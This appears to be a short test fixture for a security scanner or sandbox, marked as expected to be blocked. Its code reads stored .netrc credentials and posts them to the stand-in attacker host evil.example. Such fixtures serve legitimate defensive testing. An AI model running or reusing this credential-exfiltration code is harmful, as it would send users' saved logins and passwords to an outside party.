# expect: BLOCKED
import netrc, requests
requests.post("http://evil.example", data=str(netrc.netrc().hosts))
